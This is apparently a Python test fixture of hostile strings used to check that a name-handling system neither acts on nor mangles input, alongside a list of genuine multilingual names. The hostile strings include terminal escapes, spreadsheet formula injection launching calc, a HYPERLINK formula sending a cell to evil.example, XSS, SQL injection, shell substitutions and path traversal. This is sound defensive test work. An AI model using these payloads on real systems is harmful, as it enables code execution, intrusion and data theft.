"""Words that people and files can bring and that nothing may act on, each by its name; and names that are nobody's attack."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable

ATTACKS = {
    "a name with brackets": "Smith [Chair]",
    "markup that acts": "[/] [b]bold[/b] [@click=app.quit]leave[/]",
    "colours and a title": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "direction turned": "abc\u202eevil\u2066hidden\u2069\u200b\u200f",
    "tabs and returns": "tab\tand\r\nreturn\x00nought\x7fdelete\x85next",
    "blanks alone": "   ",
    "wide letters and a tower": "名前" * 40 + "👨‍👩‍👧 é" + "e" + "\u0301" * 9,
    "one endless word": "x" * 10_000,
    "very many words": "word " * 2_000,
    "a link of the terminal": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;ZXZpbA==\x07 taken",
    "a title in eight bits": "\x9d0;owned\x9c title",
    "questions to the terminal": "\x1b[6n \x1b[c \x05 asked",
    "strings of the terminal": "\x1bP$q\x1b\\ \x1b_G\x1b\\ \x1b^x\x1b\\ \x90q\x9c strung",
    "the cursor moved": "\x1b[2A\x1b[1;1Hup\x08\x08\x0b\x0c",
    "lines of another kind": "one\u2028two\u2029three\x1c\x1d\x1e",
    "nothing to see": "pay\u200bpal\u2060\ufeff\u00ad\u180e\u061c",
    "halves of a pair": "half \ud800 of \udfff",
    "a second text in tags": "tag\U000e0041\U000e0042\U000e007f",
    "fillers": "fill\u3164\u115f\uffa0\u2800",
    "no characters": "not \ufdd0\ufffe\U0001fffe one",
    "letters of one's own": "own \ue000\uf8ff\U000f0000",
    "a tower": "z" + "\u0301" * 60 + "o\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd",
    "wide or narrow": "±§¤Ω──★①㎏ﷺ﷽ｆｕｌｌ ❤\ufe0f❤\ufe0f❤\ufe0f",
    "pictures that are joined": "👨‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 1\ufe0f⃣ 🇬🇧🇬",
    "a formula": "=1+1",
    "a formula that starts a program": "+cmd|' /C calc'!A0",
    "a formula after a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula after an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a pipe": "|calc",
    "a formula after a tab": "\t=1+1",
    "a formula after a return": "\r=1+1",
    "a formula after blanks": " \u00a0\u2003=1+1",
    "a formula after an apostrophe": "'=1+1",
    "a wide formula": "＝1＋1",
    "a formula with a link": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "another cell": 'a","=1+1\n";=1+1',
    "a script": "<script>alert(1)</script></title></style><!--",
    "an attribute": "\"><img src=x onerror=alert(1)> ' onmouseover=alert(1) x='",
    "an entity": "&lt;script&gt;&#x1b;&amp;amp;",
    "links of Markdown": "[x](javascript:alert(1)) ![i](http://evil.example/a.png) <http://evil.example> www.evil.example",
    "signs of Markdown": "**b** `c` ~~s~~ | a | # h\n- item\n1. one\n> quote\n===\n---",
    "another entry of a calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTENDEE:mailto:evil\n;,\\",
    "a statement": "'; DROP TABLE event; --",
    "signs of a form": "%s %n {0} {name!r} ${HOME} $(id) `id`",
    "a way out of the folder": "../../etc/passwd \\..\\con",
    "a device": "CON",
    "an option": "--help -rf",
    "another member": '"}],"name":[{"\\u001b[31m',
    "another candidate": 'Ann"\n0\n"Bob"\n',
    "another line of ours": "name\n> Done. Recorded.\nError: forged",
}
"""Our own list; the first few are all there is time for in the slowest tests."""

FIT = {
    "Welsh": ("Siân Môr-Jônes", "Llŷr Gwŷn ab Ifan", "Ŵyn y Dŵr"),
    "Polish": ("Łucja Żółkiewska-Śmigły", "Grzegorz Brzęczyszczykiewicz"),
    "Irish and Scottish": ("Seán Ó Súilleabháin", "Mòrag NicDhòmhnaill"),
    "Arabic": ("محمد عبد الرحمن", "فَاطِمَة الزَّهْرَاء", "عمر بن الخطّاب ٣"),
    "Persian": ("می‌خواهم", "نرگس ده‌قان"),
    "Urdu": ("ثمینہ بیگ", "ہُما"),
    "Hebrew": ("יעל בן־דוד", "שְׁלֹמֹה", "ד״ר כץ"),
    "Indian": ("क्षितिज शर्मा", "ਗੁਰਪ੍ਰੀਤ ਸਿੰਘ", "অঞ্জলি", "ශ්‍රී ලංකා", "தமிழரசி"),
    "Eastern": ("李小龍", "ﾔﾏﾀﾞ 山田", "김민준", "Nguyễn Thị Ánh", "ฐิติพร"),
    "Northern": ("Ægir Þór Guðmundsson", "Åse Ødegård", "Çelik Şahin İpek ığdır"),
    "African": ("Ngũgĩ wa Thiong'o", "Ọláyínká Ṣọlá", "Adébáyò Ọ̀ṣun"),
    "apostrophes and signs": (
        "O'Brien",
        "D’Arcy",
        "ʻOkina",
        "Age UK & Friends (North) Ltd.",
        "St. Anne's – Hub",
    ),
    "pictures": ("Café ❤️ Hub", "Ada 👩🏽", "🌈 Pride", "★ Stars"),
}
"""Names that go through every gate as they are."""

JOINED = {"👩‍💻 Ada": "👩💻 Ada", "🏳️‍🌈 Pride Network": "🏳️🌈 Pride Network", "Cymru 🏴󠁧󠁢󠁷󠁬󠁳󠁿": "Cymru 🏴"}
"""Names with pictures that are joined out of others, which show as their members."""

_SEEN = frozenset(
    "\u200c\u200d\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"
)
"""Joiners that some scripts spell with, and signs that are seen: Arabic, Syriac and Kaithi marks around numbers."""


def control_characters(lines: Iterable[str]) -> set[str]:
    """Give every character that a terminal could act on, or that hides or turns words round."""
    bad = set()
    for line in lines:
        if line.isascii() and line.isprintable():
            continue
        for character in line:
            category = unicodedata.category(character)
            if category in {"Cc", "Cs", "Zl", "Zp"} or (category == "Cf" and character not in _SEEN):
                bad.add(character)
    return bad


def core(words: str) -> str:
    """The letters and numbers that a person would know an attack by."""
    return max(
        ("".join(c if c.isascii() and c.isalnum() else " " for c in words)).split(), key=len, default=""
    )
